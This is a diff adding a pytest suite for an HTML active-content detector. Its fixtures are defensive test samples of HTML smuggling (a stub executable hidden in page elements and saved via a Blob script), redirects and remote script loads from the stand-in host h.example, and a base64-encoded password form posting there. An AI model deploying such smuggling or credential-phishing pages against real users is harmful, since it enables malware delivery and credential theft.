@@ -1,0 +1,97 @@
+"""What the scripts of a page do when it is opened."""
+
+from __future__ import annotations
+
+import base64
+
+import pytest
+
+from gateway.extract.base import Child
+from gateway.extract.html import parse
+from gateway.extract.pagecode import active
+from gateway.model.content import Observation, Text
+
+PROGRAM = b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\0\0" + bytes(range(256))
+B64 = base64.b64encode(PROGRAM).decode()
+WRITER = "<script>a.href=URL.createObjectURL(new Blob([x]));a.click()</script>"
+WORDS = "<p>" + "There is something to read here. " * 8
+FRAME = "<iframe src='https://h.example/l' style='width:100%;height:100%'></iframe>"
+
+
+def acts(source: str) -> dict[str, str]:
+    return {i.code: i.detail for i in active(parse(source), source) if isinstance(i, Observation)}
+
+
+def pieces(text: str, size: int = 40) -> list[str]:
+    return [text[n:n + size] for n in range(0, len(text), size)]
+
+
+@pytest.mark.parametrize("source", [
+    f"<input type=hidden value='{B64}'>", f"<meta name=x content='{B64}'>", f"<title>Document</title><textarea>{B64}</textarea>",
+    "".join(f"<option value='{p}'>" for p in pieces(B64)), "".join(f"<i class={p}></i>" for p in pieces(PROGRAM.hex(), 16)),
+    "<table>" + "".join(f"<tr><td>{p}</td></tr>" for p in pieces(B64)) + "</table>",
+    "<style>" + "".join(f".a{n}{{font-family:\"{p}\"}}" for n, p in enumerate(pieces(PROGRAM.hex(), 64))) + "</style>",
+    "<p>" + "".join(f"&#{ord(c)};" for c in B64) + "</p>",
+    "<script>x=`" + "\n".join(":".join(pieces(p, 4)) for p in pieces(PROGRAM.hex(), 32)) + "`</script>",
+])
+def test_files_in_all_places_of_a_page_that_writes_one(source):
+    page = source + WRITER
+    assert [i.data[:64] for i in active(parse(page), page) if isinstance(i, Child)] == [PROGRAM[:64]]
+    assert not [i for i in active(parse(source), source) if isinstance(i, Child)] or "<script" in source
+
+
+@pytest.mark.parametrize("source", [
+    "<meta http-equiv=refresh content='0;url=https://h.example/'>", "<script>location.href='https://h.example/#'+x</script>",
+    "<script>window.location.replace(\"//h.example\")</script>",
+    "<form id=f action='https://h.example/s'></form><script>f.submit()</script>", "<script src='https://h.example/a.js'></script>",
+    "<script>fetch('https://h.example/a').then(r=>r.text()).then(t=>document.write(t))</script>",
+    "<script>new WebSocket('wss://h.example').onmessage=e=>document.write(e.data)</script>",
+    "<script type=module>import 'https://h.example/a.mjs'</script>", "<script>s.src='//h.example/x'</script>", FRAME,
+    "<script>eval(function(p,a,c,k,e,d){return p}('0.1=\\'2://3.4/\\'',10,5,'location|href|https|h|example'.split('|'),0,{}))</script>",
+])
+def test_doors(source):
+    assert "HTML-DOOR" in acts(source)
+    assert "HTML-DOOR" not in acts(source + WORDS)
+
+
+@pytest.mark.parametrize("source", [
+    "<script>window.location.replace('com/x/package-summary.html')</script>", "<meta http-equiv=refresh content='0;url=index2.html'>",
+    "<noscript><meta http-equiv=refresh content='0; url=https://h.example/?noscript=1'></noscript>",
+    "<script src='https://h.example/charts.js'></script><script>draw(" + "1.5, " * 100 + "2)</script>",
+    "<script src='a.js'></script>", "<form action='https://h.example/s'></form>", "<iframe src='https://h.example/' width=560></iframe>",
+    "<frameset><frame src='toc.html'></frameset>", "<a href='https://h.example/'>x</a>",
+])
+def test_other_pages_are_no_doors(source):
+    assert "HTML-DOOR" not in acts(source)
+
+
+def test_forms_hidden_in_code():
+    form = "<form action=https://h.example/p><input type=password name=p></form>"
+    for coded in (f"atob('{base64.b64encode(form.encode()).decode()}')", "unescape('" + "".join(f"%{ord(c):02x}" for c in form) + "')"):
+        assert "HTML-HIDDEN-FORM" in acts(f"<script>document.write({coded})</script>")
+    assert "HTML-HIDDEN-FORM" not in acts(f"<script>document.write('{form}')</script>{form}")
+
+
+def test_entities_that_bring_markup():
+    assert acts("<!DOCTYPE html [<!ENTITY p '<script>x</script>'>]><html>&p;")["HTML-ENTITY"] == "markup"
+    assert acts("<!DOCTYPE book [<!ENTITY c SYSTEM 'c.xml'>]><book>&c;</book>")["HTML-ENTITY"] == ""
+
+
+def test_packed_scripts_are_read():
+    source = "<script>eval(function(p,a,c,k,e,d){return p}('0(1)',10,2,'alert|document'.split('|')))</script>"
+    (text,) = (i.content for i in active(parse(source), source) if isinstance(i, Text))
+    assert text.endswith("\nalert(document)")
+
+
+def test_much_of_a_small_page():
+    literal = "".join(chr(97 + n * 7 % 26) for n in range(400))
+    assert "HTML-MOSTLY-LITERAL" in acts(f"<script>a='{literal}';{'go(a);' * 100}</script>")
+    assert "HTML-MOSTLY-LITERAL" not in acts(f"<script>a='{literal}';{'go(a);' * 300}</script>")
+
+
+@pytest.mark.parametrize("source", [
+    "<i a='" * 200_000 + WRITER, "<i a=b " * 200_000 + WRITER, "<script" * 200_000 + WRITER, "<style" * 200_000 + WRITER, "<noscript" * 200_000,
+    " a=" * 400_000 + WRITER, "<script>" + "location =" * 200_000 + "</script>",
+])
+def test_hostile_pages_are_linear(source):
+    list(active(parse(source), source))
